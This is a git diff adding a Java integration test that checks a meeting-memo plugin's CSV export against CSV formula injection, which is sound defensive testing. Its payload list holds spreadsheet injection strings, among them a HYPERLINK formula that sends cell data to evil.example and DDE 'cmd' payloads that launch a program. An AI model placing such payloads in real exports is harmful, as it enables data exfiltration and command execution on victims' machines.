@@ -10,11 +10,15 @@ import static org.junit.jupiter.api.Assertions.fail;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.meetingmemo.it.TestHost;
+import java.io.StringReader;
 import java.net.URI;
 import java.util.ArrayList;
 import java.util.Collections;
+import java.util.HashMap;
 import java.util.HashSet;
+import java.util.LinkedHashMap;
 import java.util.List;
+import java.util.Map;
 import java.util.Set;
 import java.util.concurrent.ExecutorService;
 import java.util.concurrent.Executors;
@@ -22,6 +26,8 @@ import java.util.concurrent.Future;
 import java.util.concurrent.TimeUnit;
 import java.util.concurrent.atomic.AtomicInteger;
 import java.util.function.Consumer;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Tag;
@@ -204,6 +210,72 @@ class HostileStringsTest {
         assertNoDifferences(differences);
     }
 
+    /**
+     * CSV injection (OWASP): a page author writes text a spreadsheet would run as a formula ({@code =}, {@code +},
+     * {@code -}, {@code @}, tab, carriage return first) into an action's text and owner, a task, the memo title,
+     * the series and the page title. The CSV export, opened with a real CSV reader, has no cell that starts with
+     * a formula character, and each text cell is the JSON list's value, or that value after one added quote.
+     */
+    @Test
+    void noCsvCellStartsAFormulaAndTheTextIsRecoverableByDroppingOneQuote() throws Exception {
+        List<String> formulas = new ArrayList<>(List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(1+1)", "=1+1", "=cmd|'/C calc'!A0 ä😀", "-", "@", "+\"quoted\",comma", "=\u0009tab", "=\r\ncarriage"));
+        for (String s : strings) {
+            String t = s.strip();
+            if (!t.isEmpty() && "=+-@\t\r".indexOf(t.charAt(0)) >= 0 && HostileMemo.xmlSafe(s) && !formulas.contains(s)) formulas.add(s);
+        }
+        Set<String> titles = new HashSet<>();
+        List<String> findings = new ArrayList<>();
+        int cells = 0;
+        for (int i = 0; i < formulas.size(); i++) {
+            String s = formulas.get(i), t = HostileMemo.text(s);
+            String storage = "<ac:structured-macro ac:name=\"meeting-memo\">" + HostileMemo.parameter("title", t) + HostileMemo.parameter("series", t)
+                    + "<ac:rich-text-body>" + HostileMemo.macro("memo-action", "f" + i, HostileMemo.parameter("owner", t), "<p>" + t + "</p>")
+                    + "<ac:task-list><ac:task><ac:task-id>1</ac:task-id><ac:task-body>" + t + "</ac:task-body></ac:task></ac:task-list>"
+                    + "</ac:rich-text-body></ac:structured-macro>";
+            String title = s.strip().isEmpty() || !titles.add(s.strip()) ? String.format("Formula %03d", i) : s;
+            Http.Answer created = Http.json(base, "admin", "POST", "/rest/api/content", TestHost.newPage("EDUFUTURA", title, storage));
+            assertEquals(200, created.status(), created.toString());
+            long pageId = created.json().get("id").asLong();
+
+            Map<String, JsonNode> listed = new HashMap<>();
+            for (JsonNode item : Http.get(base, "admin", API + "/action-items?status=all&limit=200&pageId=" + pageId).json().get("items")) {
+                listed.put(item.get("id").asText(), item);
+            }
+            Http.Answer csv = Http.get(base, "admin", API + "/action-items.csv?status=all&pageId=" + pageId);
+            assertEquals(200, csv.status(), csv.toString());
+            List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
+                    .parse(new StringReader(csv.body().substring(1))).getRecords();
+            if (rows.size() != listed.size() || rows.isEmpty()) findings.add(HostileMemo.printable(s) + ": " + rows.size() + " CSV rows, " + listed.size() + " listed");
+            for (CSVRecord row : rows) {
+                for (String cell : row) {
+                    cells++;
+                    if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
+                        findings.add(HostileMemo.printable(s) + ": a cell starts a formula: " + HostileMemo.printable(cell));
+                    }
+                }
+                JsonNode item = listed.get(row.get("id"));
+                if (item == null) continue;
+                Map<String, String> expected = new LinkedHashMap<>();
+                expected.put("text", textOf(item.at("/text")));
+                expected.put("memo", textOf(item.at("/memo/title")));
+                expected.put("series", textOf(item.at("/memo/series")));
+                expected.put("page", textOf(item.at("/pageTitle")));
+                if (textOf(item.at("/assignee")).isEmpty()) expected.put("owner", textOf(item.at("/owner")));
+                for (Map.Entry<String, String> e : expected.entrySet()) {
+                    String cell = row.get(e.getKey()), original = e.getValue();
+                    String recovered = cell.startsWith("'") && !original.startsWith("'") ? cell.substring(1) : cell;
+                    if (!recovered.equals(original)) {
+                        findings.add(HostileMemo.printable(s) + ": " + e.getKey() + " cell " + HostileMemo.printable(cell) + " is not " + HostileMemo.printable(original));
+                    }
+                }
+            }
+        }
+        Counts.record("hostile.csvFormulaStrings", formulas.size());
+        Counts.record("hostile.csvCellsChecked", cells);
+        assertNoDifferences(findings);
+    }
+
     @Test
     void everyStringAsEveryRestInputAnswersTwoHundredsOrFourHundredsNeverFiveHundreds() throws Exception {
         sweep(false);
@@ -303,6 +375,9 @@ class HostileStringsTest {
         for (String segment : path.split("/")) if (segment.equals(".") || segment.equals("..")) return true;
         return false;
     }
+
+    /** A JSON value as a CSV cell holds it: null and missing as empty. */
+    private static String textOf(JsonNode node) { return node.isMissingNode() || node.isNull() ? "" : node.isValueNode() ? node.asText() : node.toString(); }
 
     private static void assertNotServerError(Http.Answer answer) {
         assertTrue(answer.status() < 500, answer.toString());
